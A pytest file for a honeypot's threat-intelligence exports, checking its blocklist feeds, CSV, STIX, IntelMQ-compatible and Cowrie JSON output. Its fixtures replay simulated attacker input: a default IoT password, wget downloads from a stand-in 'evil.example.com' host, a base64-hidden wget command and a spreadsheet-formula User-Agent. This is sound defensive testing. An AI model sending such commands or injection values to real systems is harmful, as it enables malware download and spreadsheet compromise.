"""What leaves the house: exports that other programs read, and lists that hold exactly what may be blocked."""

import base64
import collections
import csv
import io
import json
import pathlib
import re
import subprocess
import urllib.error
import urllib.request

import pytest

import honeypot_logs
from noroshi import PATIENCE, Node, converse, visit_from, wait_until

STIX_SCHEMAS = pathlib.Path(__file__).resolve().parents[3] / "shared" / "data" / "stix" / "schemas"
SCANNERS = [f"127.0.0.{number}" for number in range(2, 12)]


@pytest.fixture(scope="module")
def tower(tmp_path_factory):
    """A node that ten sources have visited; a key for a reader. Whoever asks after it finds everything applied."""
    with Node(tmp_path_factory.mktemp("export")) as node:
        telnet, http = node.port("telnet"), node.port("http")
        for source in SCANNERS:
            visit_from(source, telnet, b"root\r\n", b"xc3511\r\n")
        request = (
            "GET /a?to=http://127.0.0.1/x&hidden={} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: =cmd()\r\n"
            "X-Forwarded-For: 203.0.113.200\r\nConnection: close\r\n\r\n"
        ).format(base64.b64encode(b"wget http://127.0.0.1/b.sh").decode())
        converse(http, request.encode())
        node.run("users", "add", "firewall", "--role", "reader")
        node.key = node.run("keys", "add", "firewall").split()[0]
        node.address = node.status()["api"][0]
        wait_until(lambda: len(entries(node, "inbound-ips.txt")) == len(SCANNERS) + 1, "every visitor is on the list")
        yield node


def fetch(node, path, **headers):
    request = urllib.request.Request(node.address + path, headers={"Authorization": f"Bearer {node.key}", **headers})
    try:
        with urllib.request.urlopen(request, timeout=PATIENCE) as answer:
            return answer.status, dict(answer.headers), answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read().decode()


def entries(node, name):
    status, _, body = fetch(node, f"/feeds/{name}")
    assert status == 200, body
    return [line for line in body.splitlines() if not line.startswith("#")]


def test_a_list_holds_exactly_who_completed_a_handshake(tower):
    assert sorted(entries(tower, "inbound-ips.txt")) == sorted([*SCANNERS, "127.0.0.1"])
    for name in ("outbound-ips.txt", "outbound-domains.txt", "outbound-urls.txt", "hashes.txt"):
        assert entries(tower, name) == [], name


def test_forged_headers_and_typed_urls_are_on_no_list(tmp_path):
    with Node(tmp_path) as node:
        node.run("users", "add", "firewall", "--role", "reader")
        node.key = node.run("keys", "add", "firewall").split()[0]
        node.address = node.status()["api"][0]
        visit_from("127.0.0.9", node.port("telnet"), b"root\r\n", b"root\r\n", b"wget http://evil.example.com/x.sh\r\n", b"wget http://198.51.100.66/y\r\n")
        converse(node.port("http"), b"GET / HTTP/1.1\r\nHost: forged.example.com\r\nX-Forwarded-For: 198.51.100.67\r\nConnection: close\r\n\r\n")
        wait_until(lambda: len(entries(node, "inbound-ips.txt")) == 2, "both visitors are on the list")
        everything = "".join(fetch(node, f"/feeds/{name}")[2] for name in
                             ("inbound-ips.txt", "outbound-ips.txt", "outbound-domains.txt", "outbound-urls.txt", "hashes.txt"))
        assert "example" not in everything and "198.51.100" not in everything


def test_an_unchanged_list_is_not_sent_again(tower):
    status, headers, body = fetch(tower, "/feeds/inbound-ips.txt")
    assert status == 200 and body and headers["Cache-Control"] == "private, no-cache"
    status, again, body = fetch(tower, "/feeds/inbound-ips.txt", **{"If-None-Match": headers["ETag"]})
    assert status == 304 and body == "" and again["ETag"] == headers["ETag"]
    status, _, _ = fetch(tower, "/feeds/inbound-ips.txt", **{"If-Modified-Since": headers["Last-Modified"]})
    assert status == 304


def test_curl_reads_a_list_with_the_key_as_password(tower):
    def curl(path, *words):
        return subprocess.run(["curl", "-s", "-o", "-", "-w", "%{http_code}", *words, tower.address + path],
                              capture_output=True, text=True, timeout=PATIENCE).stdout

    assert curl("/feeds/inbound-ips.txt", "-u", f"x:{tower.key}").endswith("127.0.0.9\n200")
    assert curl("/feeds/inbound-ips.txt", "-u", "x:wrong").endswith("401")
    assert curl("/api/v1/status", "-u", f"x:{tower.key}").endswith("401")


def test_csv_holds_every_observation_and_no_sensor(tower):
    text = tower.run("export", "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    total = sum(day["rows"] for day in tower.json("days"))
    assert len(rows) == total
    logins = [row for row in rows if row["kind"] == "login"]
    assert len(logins) == len(SCANNERS) and all(row["username"] == "root" and row["password"] == "" for row in logins)
    assert all(row["dst"] == "" for row in rows)
    request = next(row for row in rows if row["kind"] == "request")
    assert request["host"] == "sensor.invalid" and request["user_agent"].startswith("'=")
    assert "127.0.0.1/" not in request["path"]
    hidden = re.search(r"hidden=([\w+/=%]+)", request["path"])[1]
    assert b"127.0.0.1" not in base64.b64decode(urllib.request.unquote(hidden))
    kept = list(csv.DictReader(io.StringIO(tower.run("export", "csv", "--keep-sensors", "--with-secrets", "--kind", "login"))))
    assert {row["dst"] for row in kept} == {"127.0.0.1"} and {row["password"] for row in kept} == {"xc3511"}


def test_an_export_to_a_file_appears_whole_and_for_its_owner_only(tower):
    target = tower.folder / "out.csv"
    tower.run("export", "csv", "-o", target)
    assert target.read_bytes().decode() == tower.run("export", "csv").replace("\n", "\r\n")
    assert target.stat().st_mode & 0o777 == 0o600 and not target.with_name("out.csv.part").exists()
    assert "nothing" in tower.run("export", "csv", "-o", tower.folder / "nothing" / "x", expect=3)


def test_plain_lists_what_may_be_blocked(tower):
    assert sorted(tower.run("export", "plain").split()) == sorted([*SCANNERS, "127.0.0.1"])


def test_stix_validates_against_the_published_schemas(tower):
    jsonschema = pytest.importorskip("jsonschema")
    referencing = pytest.importorskip("referencing")
    if not STIX_SCHEMAS.is_dir():
        pytest.skip("the STIX schemas are not on this machine")
    base = "http://raw.githubusercontent.com/oasis-open/cti-stix2-json-schemas/stix2.1/schemas/"
    schemas = {path.relative_to(STIX_SCHEMAS).as_posix(): json.loads(path.read_text()) for path in STIX_SCHEMAS.rglob("*.json")}
    resources = [(schema.get("$id", base + name), referencing.Resource.from_contents(schema)) for name, schema in schemas.items()]
    resources += [(base + name, resource) for (name, _), (_, resource) in zip(schemas.items(), resources)]
    registry = referencing.Registry().with_resources(resources)
    bundle = json.loads(tower.run("export", "stix"))
    jsonschema.Draft202012Validator(schemas["common/bundle.json"], registry=registry).validate(bundle)
    objects = {each["id"]: each for each in bundle["objects"]}
    assert len(objects) == len(bundle["objects"]), "ids are unique"
    indicators = [each for each in bundle["objects"] if each["type"] == "indicator"]
    assert len(indicators) == len(SCANNERS) + 1 and all("valid_until" in each for each in indicators)
    for each in bundle["objects"]:
        for reference in [*each.get("object_refs", []), *(each[name] for name in ("source_ref", "target_ref") if name in each)]:
            assert reference in objects
    assert json.loads(tower.run("export", "stix")) == bundle


# The two reports' facts that IntelMQ's parser needs: its own schema is downloaded, and tests have no network. Columns of
# The Shadowserver Foundation's report_schema, names of IntelMQ's data format.
INTELMQ_SCHEMA = {
    "event4_honeypot_brute_force": {
        "feed_name": "Honeypot-Brute-Force-Events",
        "file_name": "event4_honeypot_brute_force",
        "constant_fields": {"classification.identifier": "honeypot-brute-force", "classification.taxonomy": "intrusion-attempts",
                            "classification.type": "brute-force"},
        "required_fields": [["time.source", "timestamp", "add_UTC_to_timestamp"], ["source.ip", "src_ip", "validate_ip"],
                            ["source.port", "src_port", "convert_int"]],
        "optional_fields": [["destination.ip", "dst_ip", "validate_ip"], ["destination.port", "dst_port", "convert_int"],
                            ["protocol.transport", "protocol"], ["protocol.application", "application"],
                            ["destination.account", "username"], ["extra.", "service", "validate_to_none"],
                            ["extra.", "start_time", "convert_date_utc"], ["extra.", "end_time", "convert_date_utc"],
                            ["extra.", "severity", "validate_to_none"]],
    },
    "event4_honeypot_http_scan": {
        "feed_name": "Honeypot-HTTP-Scan",
        "file_name": "event4_honeypot_http_scan",
        "constant_fields": {"classification.identifier": "honeypot-http-scan", "classification.taxonomy": "information-gathering",
                            "classification.type": "scanner"},
        "required_fields": [["time.source", "timestamp", "add_UTC_to_timestamp"], ["source.ip", "src_ip", "validate_ip"],
                            ["source.port", "src_port", "convert_int"]],
        "optional_fields": [["destination.port", "dst_port", "convert_int"], ["protocol.transport", "protocol"],
                            ["user_agent", "http_agent", "validate_to_none"],
                            ["extra.", "http_request_method", "validate_to_none"], ["extra.", "http_url", "validate_to_none"]],
    },
}


@pytest.mark.parametrize("form, report, kind", [("shadowserver", "event4_honeypot_brute_force", "login"),
                                                ("shadowserver-http", "event4_honeypot_http_scan", "request")])
def test_intelmqs_own_parser_reads_shadowserver_csv(tower, monkeypatch, caplog, form, report, kind):
    pytest.importorskip("intelmq")
    from intelmq.bots.parsers.shadowserver import _config
    from intelmq.bots.parsers.shadowserver.parser import ShadowserverParserBot
    from intelmq.lib.bot import BotLibSettings

    text = tower.run("export", form)
    rows = list(csv.DictReader(io.StringIO(text)))
    # All columns that the report has are read or expressly passed over, as in IntelMQ's own schema.
    schema = json.loads(json.dumps(INTELMQ_SCHEMA))
    named = {field[1] for part in ("required_fields", "optional_fields") for field in schema[report][part]}
    assert named <= set(rows[0])
    schema[report]["optional_fields"] += [["extra.", column, "validate_to_none"] for column in rows[0] if column not in named]
    place = tower.folder / f"{report}.json"
    place.write_text(json.dumps(schema))

    settings = getattr(_config, "__config")
    monkeypatch.setattr(settings, "schema_base", str(place))
    monkeypatch.setattr(settings, "schema_file", str(place))
    monkeypatch.setattr(settings, "schema_mtime", 0.0)
    bot = ShadowserverParserBot("noroshi-test", settings=BotLibSettings | {"test_mode": True, "error_log_message": True})
    queues = bot.process_message({"__type": "Report", "feed.name": "noroshi", "time.observation": "2026-11-22T00:00:00+00:00",
                                  "raw": base64.b64encode(text.encode()).decode(),
                                  "extra.file_name": f"2026-11-22-{report}-noroshi.csv"})
    assert queues["error"] == [] and len(queues["output"]) == len(rows)
    assert not [record for record in caplog.records if record.levelname in ("ERROR", "CRITICAL")]
    assert {event["source.ip"] for event in queues["output"]} == {row["src_ip"] for row in rows}
    expected = sum(1 for row in csv.DictReader(io.StringIO(tower.run("export", "csv"))) if row["kind"] == kind)
    assert len(rows) == expected > 0


def test_cowrie_json_is_read_back_to_equal_counts(tmp_path):
    def importing(node, file):
        done = subprocess.run(node.command("import", file, "--format", "json"), capture_output=True, text=True, timeout=600)
        assert done.returncode == 0, done.stdout + done.stderr
        answer = json.loads(done.stdout)
        return collections.Counter({each["type"]: each["lines"] for each in answer["types"]}), answer

    def by_kind(node):
        rows = csv.DictReader(io.StringIO(node.run("export", "csv")))
        return collections.Counter((row["kind"], row["src"]) for row in rows)

    logs = {name: log for name, log in honeypot_logs.all_logs(600).items() if name.startswith("cowrie")}
    assert len(logs) == 3
    expected = collections.Counter()
    first, second = Node(tmp_path / "first"), Node(tmp_path / "second")
    for node in (first, second):
        node.folder.mkdir()
        node.init()
    for name, (lines, _) in logs.items():
        (tmp_path / name).write_text("".join(line + "\n" for line in lines))
        types, answer = importing(first, tmp_path / name)
        assert answer["refused"] == 0
        expected += types
    exported = tmp_path / "exported.json"
    first.run("export", "cowrie-json", "-o", exported)
    types, answer = importing(second, exported)
    assert types == expected and answer["refused"] == 0 and answer["known"] == 0
    assert by_kind(second) == by_kind(first)


def test_what_our_own_decoys_saw_is_a_cowrie_log_too(tower):
    lines = [json.loads(line) for line in tower.run("export", "cowrie-json").splitlines()]
    events = collections.Counter(line["eventid"] for line in lines)
    assert events["cowrie.session.connect"] == len(SCANNERS) + 1 and events["cowrie.login.failed"] + events["cowrie.login.success"] == len(SCANNERS)
    assert all(line["dst_ip"] == "sensor.invalid" and "password" not in line for line in lines)
    assert all(re.fullmatch(r"[0-9a-f]{12}", line["session"]) for line in lines)


def test_wrong_use_is_told(tower):
    assert "FORMAT" in tower.run("export", "nonsense", expect=2)
    assert "yesterday" in tower.run("export", "csv", "--since", "yesterday", expect=2)
    assert "indicators" in tower.run("export", "plain", "--kind", "login", expect=2)
    assert fetch(tower, "/feeds/nonsense")[0] == 404
    assert fetch(tower, "/feeds/public-inbound-ips.txt")[0] == 404
